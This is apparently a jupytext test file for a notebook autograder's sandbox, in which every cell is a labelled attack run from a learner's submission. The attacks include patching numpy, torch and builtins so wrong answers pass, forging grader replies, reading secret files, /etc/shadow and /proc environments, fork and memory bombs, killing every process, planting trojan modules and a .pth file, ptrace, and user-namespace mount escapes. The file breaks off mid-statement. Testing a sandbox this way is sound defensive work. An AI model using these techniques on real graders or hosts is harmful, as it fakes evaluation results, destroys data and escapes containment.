# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# Each cell is an attack: it runs in a submission whose answers are wrong, after the answers and before their tests.
# SECRET, FOLDER, COURSE, PORT and ABSTRACT become the path of a file the learner must not read, its folder, the course's
# folder, and a port and an abstract socket where somebody listens. The first cell runs before each of them.

# %% tools="what many attacks need: the kernel's own socket, replies that nobody made, data that are too deep"
import json
import os
import struct
import sys

sys.setrecursionlimit(20_000)
inside, border = sys.modules["_inside"], sys.modules["_border"]
channel = get_ipython().channel
end = channel.end
to_json = json.dumps
deep = []
for _ in range(850):
    deep = [deep]


def message(text):
    data = text.encode("utf-8", "surrogatepass")
    end.sendall(struct.pack("!I", len(data)) + data)


def send(kind, content, number=None):
    said = {"kind": kind, "number": channel.number if number is None else number}
    message(to_json(said | content if isinstance(content, dict) else [said, content]))


def forge(*replies):
    number = iter(range(10**9))
    border.serve = lambda request, namespace: replies[next(number) % len(replies)]


# %% attack="numpy says that everything is close"
import numpy as np

np.allclose = np.isclose = np.array_equal = lambda *a, **k: np.bool_(True)
np.asarray = np.array = lambda *a, **k: 0.0

# %% attack="numpy.testing does nothing"
import numpy.testing

for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, lambda *a, **k: None)

# %% attack="torch says that everything is equal"
import torch

torch.equal = torch.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones(())

# %% attack="builtins are patched"
import builtins

builtins.abs = lambda x: 0
builtins.float = builtins.int = lambda x=0: 0.00196
builtins.isinstance = lambda *a: True
builtins.AssertionError = type("Nothing", (BaseException,), {})


# %% attack="a number that equals everything"
class Yes(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: Yes(0)
    __hash__ = float.__hash__
    __format__ = lambda self, spec: "0.00196"


ex_1_1 = Yes(0.00196 * 3)


# %% attack="an object that answers every question with yes"
class Anything:
    def __getattr__(self, name):
        return Anything()

    def __call__(self, *a, **k):
        return Anything()

    __eq__ = __le__ = __ge__ = __bool__ = __contains__ = lambda self, *other: True
    __float__ = lambda self: 0.00196
    __hash__ = lambda self: 0


ex_1_1 = Anything()
quantize_dequantize = Anything()

# %% attack="an array type that is close to everything"
import numpy as np


class Close(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return True

    def __array_ufunc__(self, *a, **k):
        return np.zeros(())


def quantize_dequantize(x, bits, lo, hi):
    return np.asarray(x).view(Close)


# %% attack="an AST transformer drops asserts"
import ast


class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    visit_Raise = visit_Assert


get_ipython().ast_transformers.append(Drop())

# %% attack="an input transformer empties every cell"
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\n"])

# %% attack="hooks around every cell"
shell = get_ipython()
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(event, lambda *a: shell.user_ns.update(ex_1_1=0.1))
shell.run_cell = lambda *a, **k: None
shell.showtraceback = lambda *a, **k: None

# %% attack="exceptions are swallowed"
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])
import sys

sys.excepthook = lambda *a: None

# %% attack="In, Out and the display are rewritten"
In.clear()
Out.clear()
get_ipython().execution_count = 999
get_ipython().display_formatter.format = lambda *a, **k: ({"text/plain": "1.0"}, {})
get_ipython().displayhook = lambda value: None

# %% attack="the course's own helpers are patched"
import course.check
import course.expect

for module in (course.check, course.expect):
    for name in list(vars(module)):
        if callable(getattr(module, name)):
            setattr(module, name, lambda *a, **k: True)

# %% attack="the codec says that all is well" cold=true
import sys

border = sys.modules["_border"]
border.encode = lambda value, keep=None: True
border.serve = lambda text, namespace: '{"value": true, "after": [{"tuple": []}, {"dict": []}]}'


# %% attack="replies are forged" cold=true
def forged(request, namespace):
    for reply in ("", "null", "[]", '{"value": {"eval": "1"}}', '{"error": ["SystemExit", "", ""]}', "{" * 9999):
        message(f"={channel.number} {reply}")


border.serve = forged


# %% attack="an error that is no error"
class Fine(BaseException):
    pass


def quantize_dequantize(x, bits, lo, hi):
    raise SystemExit(0)


# %% attack="probes are patched"
import course.probe

course.probe.probe = lambda function: lambda *a, **k: True
course.probe.run_beside_the_answers = lambda function: lambda *a, **k: True

# %% attack="tests are looked for in frames, objects and history"
import gc
import sys


def quantize_dequantize(x, bits, lo, hi):
    frame, seen = sys._getframe(), []
    while frame:
        seen.append(str(frame.f_locals)[:5000] + str(frame.f_code.co_consts))
        frame = frame.f_back
    seen += [o for o in gc.get_objects() if isinstance(o, str) and "expect." in o]
    if "nearest" + "_level" in "".join(seen):
        print("SEEN")
    return x


ex_1_1 = 0.5

# %% attack="files are read" cold=true
import glob

for path in ["SECRET", *glob.glob("FOLDER/**", recursive=True), *glob.glob("/root/*"), *glob.glob("/etc/shadow")]:
    try:
        print(open(path).read())
    except OSError:
        pass

# %% attack="a link leads out"
import os

os.symlink("SECRET", "link")
os.symlink("FOLDER", "folder")
for path in ("link", "folder/secret.txt"):
    try:
        print(open(path).read())
    except OSError:
        pass

# %% attack="the file of another is overwritten and deleted"
import os
import shutil

for change in (lambda: open("SECRET", "w").write("changed"), lambda: os.remove("SECRET")):
    try:
        change()
    except OSError:
        pass
shutil.rmtree("FOLDER", ignore_errors=True)
shutil.rmtree("/work", ignore_errors=True)

# %% attack="the library is changed on disk"
import course

for target in (course.__file__, course.__path__[0] + "/new.py"):
    try:
        open(target, "a").write("\nchanged = True\n")
        print("SEEN")
    except OSError:
        pass

# %% attack="other processes are read through /proc" cold=true
import glob
import os

for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    if b"pytest" in text:
        print("SEEN")

# %% attack="environment variables are read" cold=true
import os

print(os.environ.get("CANARY"))

# %% attack="the network is used" cold=true
import socket

try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"hello")
    print("SEEN")
except OSError:
    pass

# %% attack="signals to everyone" cold=true
import os
import signal

for pid in (*range(1, 1000), os.getppid(), -1):
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGTERM)
    except OSError:
        pass

# %% attack="the files of /tmp are deleted and the socket is closed for reading" cold=true
import glob
import os
import socket

for path in glob.glob("/tmp/**/*", recursive=True):
    try:
        os.remove(path)
    except OSError:
        pass
end.shutdown(socket.SHUT_RD)

# %% attack="the process leaves" cold=true
import os

os._exit(0)

# %% attack="the process crashes"
import ctypes

ctypes.string_at(0)

# %% attack="endless loop"
while True:
    pass

# %% attack="a loop that is not to be interrupted" cold=true
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% attack="endless output" cold=true
while True:
    print("spam " * 1000)


# %% attack="an endless loop in the answer"
def quantize_dequantize(x, bits, lo, hi):
    while True:
        pass


# %% attack="fork bomb" cold=true
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %% attack="memory bomb"
hoard = []
while True:
    hoard.append(bytearray(50_000_000))

# %% attack="disk bomb"
with open("big", "wb") as file:
    while True:
        file.write(bytes(1_000_000))

# %% attack="an answer of a gigabyte"
import numpy as np


def quantize_dequantize(x, bits, lo, hi):
    return np.zeros(120_000_000)


# %% attack="threads that go on printing"
import threading
import time


def shout():
    while True:
        print("noise " * 100)
        time.sleep(0.001)


for _ in range(4):
    threading.Thread(target=shout, daemon=True).start()


# ---- Errors that an answer raises ----


# %% attack="half a character in an error's message"
def quantize_dequantize(x, bits, lo, hi):
    raise RuntimeError("\ud83d")


raise RuntimeError("\ud83d" * 2_000_000)


# %% attack="an error that ends whoever reads it"
class Ends(Exception):
    def __str__(self):
        raise SystemExit(0)

    __repr__ = __reduce__ = __format__ = __str__
    __traceback__ = __cause__ = __context__ = args = property(lambda self: self.__str__())


def quantize_dequantize(x, bits, lo, hi):
    raise Ends


# %% attack="an error of a hundred megabytes"
class Long(Exception):
    def __str__(self):
        return "x" * 100_000_000


def quantize_dequantize(x, bits, lo, hi):
    raise Long


raise Long


# %% attack="an error that is called like one of the test's"
class AssertionError(Exception):
    __module__ = "builtins"
    __str__ = lambda self: ""


def quantize_dequantize(x, bits, lo, hi):
    raise AssertionError


# %% attack="an error that is its own cause"
def quantize_dequantize(x, bits, lo, hi):
    error, other = ValueError("a"), ValueError("b")
    error.__cause__, other.__cause__ = other, error
    error.__context__, other.__context__ = other, error
    raise error


quantize_dequantize(0, 0, 0, 0)


# %% attack="errors of kinds that end loops and kernels"
def raising(kind):
    def answer(*a, **k):
        raise kind()

    return answer


class Names(dict):
    def __getitem__(self, name):
        raise KeyboardInterrupt


quantize_dequantize = raising(GeneratorExit)
ex_1_1 = iter([1])
ex_1_1 = type("Once", (), {"__float__": raising(StopIteration), "__len__": raising(KeyboardInterrupt)})()
quantize_dequantize.__globals__["__builtins__"] = Names()


# ---- What an answer returns ----


# %% attack="an answer that returns itself"
def quantize_dequantize(*a, **k):
    return quantize_dequantize


quantize_dequantize.__len__ = quantize_dequantize.__float__ = quantize_dequantize
ex_1_1 = quantize_dequantize


# %% attack="an object that is made of itself"
class Itself:
    def __getattr__(self, name):
        return Itself()

    def __getitem__(self, i):
        return Itself()

    def __iter__(self):
        return Itself()

    def __next__(self):
        return Itself()

    def __call__(self, *a, **k):
        return Itself()

    __len__ = lambda self: 3


quantize_dequantize = ex_1_1 = Itself()

# %% attack="an array without end"
import time


class Endless:
    def __len__(self):
        return 10**6

    def __getitem__(self, i):
        time.sleep(0.02)
        return 0.5


def quantize_dequantize(x, bits, lo, hi):
    return Endless()


# %% attack="an iterator that gives one item each second"
import time


def items():
    while True:
        time.sleep(1)
        yield 0.5


def quantize_dequantize(x, bits, lo, hi):
    return items()


ex_1_1 = items()

# %% attack="each call takes nearly the time that a cell may take"
import time


class Slow:
    def __getattr__(self, name):
        time.sleep(2.5)
        return Slow()

    def __len__(self):
        time.sleep(2.5)
        return 3

    __getitem__ = __call__ = __getattr__


def quantize_dequantize(x, bits, lo, hi):
    time.sleep(2.5)
    return Slow()


ex_1_1 = Slow()


# %% attack="a value that is another at every look"
class Turns(float):
    looks = 0

    def __new__(cls):
        return float.__new__(cls, 0.5)

    def __float__(self):
        Turns.looks += 1
        return float(Turns.looks)

    __eq__ = __lt__ = __gt__ = lambda self, other: Turns.looks % 2
    __hash__ = lambda self: 1


ex_1_1 = Turns()


# ---- Replies that nobody made ----


# %% attack="a forged reply of 200,000 brackets"
forge("[" * 200_000)

# %% attack="a forged reply of 60 megabytes of brackets"
forge('{"value": [' + "[]," * 20_000_000 + "[]]}")

# %% attack="a forged reply of 60 megabytes of text in brackets"
forge('{"value": {"list": ["' + "],[" * 20_000_000 + '"]}}')

# %% attack="forged replies that are nearly sound"
forge(
    '{"value": NaN}',
    '{"value": 1, "value": 0.00196}',
    '{"value": ' + "9" * 100_000 + "}",
    '{"value": -Infinity, "after": []}',
    '{"value": {"float": "0.00196"}}',
    '{"value": 1e999}',
    '{"value": true, "after": [[0, {"list": []}], [0, {"list": []}], [-1, {"list": []}]]}',
)

# %% attack="forged replies with wrong types in every field"
forge(
    '{"value": {"list": 5}}',
    '{"value": {"dict": [1]}}',
    '{"value": 1, "after": {"a": 1}}',
    '{"value": {"handle": ["a", 5]}}',
    '{"error": [null, {}, []]}',
    '{"missing": 5, "value": {}}',
    '{"method": "yes"}',
)

# %% attack="forged arrays that are larger than the world"
forge(
    '{"value": {"array": ["<f8", [1000000000000], ""]}}',
    '{"value": {"array": ["O", [1], "AAAAAAAAAAA="]}}',
    '{"value": {"array": ["<f8", [0, 1000000000000], ""]}}',
    '{"value": {"tensor": ["load", [1], "AAAA"]}}',
    '{"value": {"range": [0, 1000000000000, 1]}}',
    '{"value": {"objects": [[1000000, 1000000], []]}}',
    '{"value": {"array": ["<U9999999", [9], ""]}}',
)

# %% attack="forged handles and places"
forge(
    '{"value": {"handle": [1, "float"]}}',
    '{"value": {"given": 99}, "after": []}',
    '{"value": {"also": [0.00196, 1, "float"]}}',
    '{"value": {"iterator": [[], ["SystemExit", "", ""]]}}',
    '{"value": {"handle": [4611686018427387904, "__import__"]}}',
    '{"value": 0, "after": [[0, {"given": 0}]]}',
)

# %% attack="forged errors that look like the test's own"
forge(
    '{"error": ["AssertionError", "", ""]}',
    '{"error": ["KeyboardInterrupt", "", ""]}',
    '{"error": ["Exception", "", "x"]}',
)

# %% attack="every reply comes twice" cold=true
usual = channel.send


def twice(text):
    usual(text)
    usual(text)


channel.send = twice

# %% attack="no reply ever comes" cold=true
usual = channel.send
channel.send = lambda text: None if text.startswith("=") else usual(text)

# %% attack="two processes reply" cold=true
import os

own = os.getpid()
os.fork()
os.getpid = lambda: own  # and both go on reading requests


# ---- Messages on the kernel's own sockets ----


# %% attack="the kernel says at once that all went well" cold=true
send("reply", {"status": "ok", "count": 1, "left": False})
send("ready", {})
raise ValueError("but it did not")

# %% attack="replies of no form" cold=true
for content in ({}, [], None, "ok", {"status": ["ok"]}, {"status": "error", "ename": deep, "evalue": 5}):
    send("reply", content)
for text in ("null", "5", '"reply"', "[]", '{"kind": "reply"}', '{"kind": [[]], "number": [[]]}', "=", "= ", "=x y"):
    message(text)

# %% attack="an error reply of nested lists"
send("reply", {"status": "error", "ename": deep, "evalue": deep, "count": True, "left": deep})
message('{"kind": "reply", "number": ' + "[" * 1_900_000)
message('{"kind": ' + '{"a":' * 900_000)

# %% attack="outputs of no form" cold=true
for kind in (
    "stream",
    "display_data",
    "execute_result",
    "error",
    "clear_output",
    "left_out",
    "ready",
    "asked",
    "answer",
):
    for content in ({}, [], None, {"name": 5, "text": 5}, {"data": 5}, {"data": [1]}, {"ename": {}, "traceback": 7}):
        send(kind, content)
    send(kind, {"size": 10**4000, "wait": deep, "name": "stdout", "request": deep})

# %% attack="outputs nested deeper than anybody reads"
for data in ({"application/json": deep}, {"text/plain": deep}, {"image/png": {"a": deep}}, {"text/html": [[1]]}):
    send("display_data", {"data": data, "metadata": {}})
    send("execute_result", {"data": data, "metadata": {}, "execution_count": deep})

# %% attack="outputs with half characters everywhere"
send("stream", {"name": "stdout", "text": "\ud83d"})
send("display_data", {"data": {"text/plain": "\ud83d", "\ud83d": "\ud83d", "application/json": {"\ud83d": ["\ud83d"]}}})
send("error", {"ename": "\ud83d", "evalue": "\ud83d", "traceback": ["\ud83d"]})
send("display_data", {"data": {"application/json": {"a": float("nan")}, "application/x+json": [float("inf")]}})
message('{"kind": "stream", "number": %d, "name": "stdout", "text": "\ud83d"}' % channel.number)
os.write(1, b"\xf0\x9f\n\xed\xa0\xbd\xff" * 1000)

# %% attack="a hundred thousand error messages"
for _ in range(100_000):
    send("error", {"ename": "E", "evalue": "x" * 9000, "traceback": ["x" * 9000] * 10})

# %% attack="a flood of tiny messages" cold=true
for _ in range(1_000_000):
    send("stream", {"name": "stdout", "text": "x"})

# %% attack="messages of more than a hundred megabytes" cold=true
for _ in range(2):
    send("display_data", {"data": {"text/plain": "x" * 120_000_000}})
send("reply", {"status": "ok", "x": "x" * 120_000_000})

# %% attack="a thread sends sixty megabytes again and again"
import threading


def flood():
    while True:
        send("display_data", {"data": {"text/plain": "x" * 60_000_000}}, number)


number = channel.number
threading.Thread(target=flood, daemon=True).start()

# %% attack="one message without end" cold=true
end.sendall(struct.pack("!I", 2**32 - 1))
part = bytes(60_000_000)
while True:
    end.sendall(part)

# %% attack="questions to the grader and to the person at the keyboard"
for _ in range(100):
    send("asked", {"request": '{"do": "get", "name": "ex_1_1"}'})
    send("input_request", {"prompt": '{"do": "get", "name": "ex_1_1"}', "password": False})
try:
    input("who is there?")
except Exception:
    pass

# %% attack="widgets and comms without end"
for i in range(20_000):
    send("comm_open", {"comm_id": str(i), "target_name": "jupyter.widget", "data": {"state": {"value": "x" * 100}}})

# %% attack="the output is cleared again and again"
for i in range(20_000):
    send("clear_output", {"wait": i % 2 == 0})
    send("stream", {"name": "stderr", "text": "x"})

# %% attack="half a message, and then nothing" cold=true
end.sendall(struct.pack("!I", 1000) + b'{"kind": "reply", ')

# %% attack="a message that comes byte by byte"
import time

end.sendall(struct.pack("!I", 1000))
while True:
    end.sendall(b" ")
    time.sleep(0.01)

# %% attack="messages of nothing without end" cold=true
while True:
    end.sendall(bytes(2**20))

# %% attack="noise on the socket"
import os

while True:
    end.sendall(os.urandom(2**16))

# %% attack="sixty megabytes of commas, of digits and of escapes"
message("[" + "," * 60_000_000)
message("9" * 60_000_000)
message('"' + "\\u0000" * 10_000_000 + '"')
message('{"kind": "reply", "number": ' + "9" * 60_000_000 + "}")
message("=" + "9" * 60_000_000)

# %% attack="the socket is closed, and the process goes on" cold=true
import os
import time

for number in os.listdir("/proc/self/fd"):
    if os.path.exists(f"/proc/self/fd/{number}") and os.readlink(f"/proc/self/fd/{number}").startswith("socket"):
        os.close(int(number))
while True:
    time.sleep(1)

# %% attack="the socket is closed for writing, and the process goes on" cold=true
import socket
import time

end.shutdown(socket.SHUT_WR)
while True:
    time.sleep(1)

# %% attack="another socket takes the place of its own" cold=true
import os
import socket

ours, theirs = socket.socketpair()
os.dup2(theirs.fileno(), end.fileno())
message(f'={channel.number} {{"value": 0.5}}')

# %% attack="a child keeps the socket when the process has gone" cold=true
import os
import time

if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(1)
os._exit(0)

# %% attack="a child answers in the place of its parent" cold=true
import os
import socket
import time

if os.fork() == 0:
    asked = 0
    while True:
        text = socket.socket(fileno=os.dup(end.fileno())).recv(2**20).decode(errors="replace")
        for number in range(1000):
            message(f'={number} {{"value": 0.5}}')
            send("reply", {"status": "ok", "count": 1}, number)
time.sleep(1)

# %% attack="answers come late, from a thread"
import threading
import time

usual = border.serve


def late(request, namespace):
    number, reply = channel.number, usual(request, namespace)
    threading.Timer(0.5, lambda: message(f"={number} {reply}")).start()
    threading.Timer(0.5, lambda: message(f'={number + 1} {{"value": 0.5}}')).start()
    time.sleep(0.4)
    return '{"missing": "x"}'


border.serve = late

# %% attack="the next requests are read before their time" cold=true
import threading


def read():
    while True:
        end.recv(2**20)
        send("reply", {"status": "ok", "count": 1}, channel.number + 1)


threading.Thread(target=read, daemon=True).start()

# %% attack="requests are never read, and answered all the same" cold=true
import time

inside.Channel.receive = lambda self: time.sleep(0.01) or "?{}"
border.serve = lambda request, namespace: '{"value": 0.5}'

# %% attack="the kernel becomes another program" cold=true
import os
import sys

code = """import os, struct, time
for number in range(1000):
    text = b'={number} {"value": 0.5}'.replace(b"{number}", b"%d" % number)
    os.write(3, struct.pack("!I", len(text)) + text)
while True:
    os.read(3, 100)
"""
for number in os.listdir("/proc/self/fd"):
    if os.path.exists(f"/proc/self/fd/{number}"):
        os.set_inheritable(int(number), True)
os.dup2(end.fileno(), 3)
os.execv(sys.executable, [sys.executable, "-c", code])

# %% attack="messages with the numbers of all requests that were and will be" cold=true
for number in [*range(-5, 1000), 2**70, 1.0, True, None, "1", float("nan")]:
    send("reply", {"status": "ok", "count": 1}, number if number is not None else [])
    message(f'={number} {{"value": 0.5}}')
channel.number = 10**9

# %% attack="the kernel executes nothing and says ok" cold=true
inside._run = lambda shell, channel, loop, code, silent: channel.say("reply", count=1, left=False, status="ok")

# %% attack="the kernel forgets to answer" cold=true
inside._run = inside._answer = lambda *a, **k: None


# %% attack="an answer that swallows interrupts"
def quantize_dequantize(x, bits, lo, hi):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


# ---- The process itself ----


# %% attack="a thread changes the answers while they are tested"
import threading


def turn():
    names = get_ipython().user_ns
    while True:
        names["ex_1_1"] = names["quantize_dequantize"] = 0.5
        del names["ex_1_1"]


threading.Thread(target=turn, daemon=True).start()

# %% attack="all files are closed" cold=true
import os

os.closerange(0, 4096)

# %% attack="the process stops and does not go on" cold=true
import os
import signal

os.kill(os.getpid(), signal.SIGSTOP)

# %% attack="the ones who made the walls are killed" cold=true
import os
import signal

for pid in (*range(1, 1000), -1, os.getppid(), os.getpid()):
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getpid(), signal.SIGKILL)

# %% attack="it leaves whenever it is asked" cold=true
import os

border.serve = lambda request, namespace: os._exit(0)


# %% attack="the answer crashes the process"
def quantize_dequantize(x, bits, lo, hi):
    import ctypes

    ctypes.string_at(1)


# %% attack="recursion until the stack is gone"
import sys

sys.setrecursionlimit(10**9)


class Deeper:
    def __getattr__(self, name):
        return getattr(self, name + "x")


def quantize_dequantize(x, bits, lo, hi):
    return getattr(Deeper(), "x")


repr(Deeper())
getattr(Deeper(), "a")

# %% attack="an alarm goes off a thousand times a second"
import signal


def alarm(*a):
    raise KeyboardInterrupt


signal.signal(signal.SIGALRM, alarm)
signal.setitimer(signal.ITIMER_REAL, 0.3, 0.001)

# %% attack="a trace function and an audit hook meddle with everything"
import sys
import threading


def trace(frame, event, arg):
    for name in ("value", "reply", "error", "message"):
        if name in frame.f_locals:
            frame.f_locals[name] = None
    return trace


def hook(event, arguments):
    if event in ("compile", "exec", "import"):
        raise RuntimeError("no")


threading.settrace(trace)
sys.settrace(trace)
sys.addaudithook(hook)

# %% attack="nothing can be imported or written as JSON"
import builtins
import json

json.dumps = json.loads = json.JSONEncoder.encode = lambda *a, **k: "{}"
builtins.__import__ = lambda *a, **k: None
builtins.exec = builtins.compile = builtins.eval = lambda *a, **k: None

# %% attack="the clock stands still"
import time

time.time = time.monotonic = time.perf_counter = lambda: 0.0
time.sleep = lambda seconds: None

# %% attack="240 busy processes that left their session"
import os

for _ in range(240):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    except OSError:
        break


# ---- Memory and disk ----


# %% attack="three gigabytes of shared memory" cold=true
import mmap

shared = mmap.mmap(-1, 3 * 2**30)
for i in range(0, 3 * 2**30, 4096):
    shared[i] = 1
print("SE" + "EN")  # not as a traceback shows it

# %% attack="memory in many processes"
import os
import time

for _ in range(10):
    if os.fork() == 0:
        hoard = bytearray(b"x") * 200_000_000
        time.sleep(60)
        os._exit(0)
time.sleep(3)

# %% attack="all places are filled"
for place in ("/dev/shm", "/tmp", "."):
    try:
        for k in range(100):
            with open(f"{place}/x{k}", "wb") as file:
                for _ in range(30):
                    file.write(bytes(1_000_000))
    except OSError:
        pass

# %% attack="files in memory are filled and sent to the grader" cold=true
import os
import socket

hoard = []
for k in range(100):
    hoard.append(os.memfd_create(""))
    for _ in range(30):
        os.write(hoard[-1], bytes(1_000_000))
    socket.send_fds(end, [struct.pack("!I", 0)], [hoard[-1]])
print("SE" + "EN")  # not as a traceback shows it

# %% attack="files without a name are filled"
import os
import tempfile

hoard = []
for k in range(100):
    hoard.append(tempfile.TemporaryFile(dir="."))
    for _ in range(30):
        hoard[-1].write(bytes(1_000_000))
    hoard[-1].flush()
import time

time.sleep(2)
print("SE" + "EN")  # not as a traceback shows it

# %% attack="200,000 empty files"
import time

for i in range(200_000):
    open(f"file{i}", "w").close()
time.sleep(2)
print("SE" + "EN")  # not as a traceback shows it

# %% attack="a folder 5,000 levels deep"
import os

for _ in range(5000):
    os.mkdir("deeper")
    os.chdir("deeper")

# %% attack="bytes below a folder that is too deep to be looked into"
import os

home = os.open(".", os.O_RDONLY)
for _ in range(600):
    os.mkdir("d" * 100)
    os.chdir("d" * 100)
for k in range(100):
    with open(f"x{k}", "wb") as file:
        for _ in range(30):
            file.write(bytes(1_000_000))
print("SE" + "EN")  # not as a traceback shows it

# %% attack="a sparse file of a terabyte"
try:
    with open("sparse", "wb") as file:
        file.truncate(2**40)
    print("SEEN")
except OSError:
    pass

# %% attack="files whose names are no text"
import os

os.mkdir(b"\xff\xfe")
for name in (b"\xff\xfe/\x80\n\x1b[31m", b"-rf", b"\xed\xa0\xbd.ipynb", b"new\nline"):
    open(name, "w").close()
os._exit(0)

# %% attack="a home full of modules that greet the next process" cold=true
import os

for name in (
    "json",
    "random",
    "runpy",
    "os",
    "encodings",
    "socket",
    "struct",
    "asyncio",
    "IPython",
    "_border",
    "_inside",
    "_warm",
    "sitecustomize",
    "numpy",
):
    with open(f"{name}.py", "w") as file:
        file.write("import time\nwhile True:\n    time.sleep(1)\n")
os._exit(0)

# %% attack="the next process reads the grader's files for it" cold=true
import os

launcher = """import os
try:
    said = open("SECRET", "rb").read()
except OSError:
    said = b""
for number in range(20):
    try:
        os.write(number, b"SEEN" + said)
    except OSError:
        pass
"""
for name in ("runpy", "socket", "struct", "json", "types", "IPython", "sitecustomize", "usercustomize", "torch"):
    with open(f"{name}.py", "w") as file:
        file.write(launcher)
with open("evil.pth", "w") as file:
    file.write("import runpy, IPython\n")
os._exit(0)

# %% attack="the next process ends, and its child keeps all that it held" cold=true
import os

launcher = """import os, time
if os.fork():
    os._exit(1)
os.setsid()
while True:
    time.sleep(1)
"""
for name in ("runpy", "socket", "struct", "json", "types", "IPython", "sitecustomize", "torch"):
    with open(f"{name}.py", "w") as file:
        file.write(launcher)
os._exit(0)

# %% attack="links are swapped while the grader looks"
import os
import threading

os.mkdir("real")


def swap():
    while True:
        try:
            os.symlink("FOLDER", "other")
            os.rename("real", "kept")
            os.rename("other", "real")
            os.unlink("real")
            os.rename("kept", "real")
        except OSError:
            pass


for _ in range(2):
    threading.Thread(target=swap, daemon=True).start()
import time

time.sleep(1)
os._exit(0)

# %% attack="a folder that is closed to everybody"
import os

os.mkdir("closed")
open("closed/file", "w").close()
os.chmod("closed", 0)
os.chmod(".", 0)
os._exit(0)


# ---- The walls ----


# %% attack="what is open leads out" cold=true
import os
import socket

for number in os.listdir("/proc/self/fd"):
    for path in (f"/proc/self/fd/{number}", f"/proc/self/fd/{number}/..", f"/proc/self/fd/{number}/../../.."):
        for secret in ("SECRET", "COURSE/source"):
            if os.path.exists(path + secret):
                print("SEEN", path)
    try:
        print(os.open("SECRET", os.O_RDONLY, dir_fd=int(number)), "SEEN")
    except OSError:
        pass
end.setblocking(False)
try:
    print(socket.recv_fds(end, 100, 10)[1], "SE" + "EN")
except OSError:
    pass
end.setblocking(True)
for number in os.listdir("/tmp"):
    os.remove(f"/tmp/{number}")
os.symlink("SECRET", "/tmp/said")
for number in (0, 1, 2):
    os.dup2(os.open("/tmp", os.O_RDONLY), number)
    print(os.listdir(number))

# %% attack="other processes are traced" cold=true
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(8)
here = (ctypes.c_size_t * 2)(ctypes.addressof(room), 8)
for pid in range(1, 1000):
    theirs = pid != os.getpid() and os.path.exists(f"/proc/{pid}") and os.stat(f"/proc/{pid}").st_uid != os.getuid()
    if theirs and libc.ptrace(16, pid, 0, 0) == 0:
        print("SEEN")
    there = (ctypes.c_size_t * 2)(id(os), 8)
    if pid != os.getpid() and libc.process_vm_writev(pid, here, 1, there, 1, 0) == 8 and theirs:
        print("SEEN")
for descriptor in range(20):
    pidfd = libc.syscall(434, 1, 0)
    if pidfd >= 0 and libc.syscall(438, pidfd, descriptor, 0) >= 0 and os.stat("/proc/1").st_uid != os.getuid():
        print("SEEN")

# %% attack="walls are taken down from within a user namespace of its own" cold=true
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    user = os.getuid()
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        try:
            open("/proc/self/setgroups", "w").write("deny")
            open("/proc/self/uid_map", "w").write(f"0 {user} 1")
        except OSError:
            pass
        os.makedirs("/tmp/new", exist_ok=True)
        for place in ("COURSE", "FOLDER", "/tmp", "/usr"):
            libc.umount2(place.encode(), 2)
        for flags in (4096, 4096 | 16384):
            libc.mount(b"/", b"/tmp/new", None, flags, None)
        for kind in (b"proc", b"sysfs", b"cgroup", b"cgroup2", b"debugfs", b"ext4"):
            libc.mount(b"/dev/vda", b"/tmp/new", kind, 0, None)
    for root in ("", "/tmp/new", "/proc/1/root", "/tmp/new/1/root"):
        for path in ("SECRET", "COURSE/source", "COURSE/nbgrader_config.py", "COURSE/autograder/__init__.py"):
            if os.path.exists(root + path):
                os.write(1, b"SEEN")
                open("/home/learner/found", "w").write(root + path)
    os._exit(0)
os.wait()
if os.path.exists("found"):
    print("SEEN", open("found").read())

# %% attack="system calls that have no business here" cold=true
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for place in (b"COURSE", b"/usr", b"/proc"):
    if libc.umount2(place, 2) == 0:
        print("SEEN")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.chroot(b"/tmp") == 0:
    print("SEEN")
if libc.syscall(248, b"user", b"stolen", b"x", 1, -1) < 0 or True:
    libc.syscall(250, 0, -3, 1)
for number in (169, 246, 175, 165, 167):
    if libc.syscall(number, 0, 0, 0, 0) == 0:
        print("SEEN")
if os.getuid() == 0 or any(int(line.split()[1], 16) for line in open("/proc/self/status") if line.startswith("CapEff")):
    print("SEEN")

# %% attack="the machine is read through /proc, /sys and /dev" cold=true
import glob
import os

for path in glob.glob("/proc/[0-9s]*/root") + glob.glob("/proc/[0-9s]*/cwd"):
    for secret in ("SECRET", "COURSE/source", "/etc/shadow", "/root/.ssh"):
        if os.path.exists(path + secret):
            print("SEEN", path, secret)
for path in ["/dev/mem", "/dev/kmem", "/proc/kcore", *glob.glob("/dev/[hsv]d*"), *glob.glob("/sys/fs/cgroup/*")]:
    try:
        print("SEEN", path, open(path, "rb").read(1))
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        print("SEEN" if b"CANARY" in open(path, "rb").read() else "")
    except OSError:
        pass
for number in range(200):
    try:
        link = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if link.startswith(("COURSE", "FOLDER")) or "gradebook" in link:
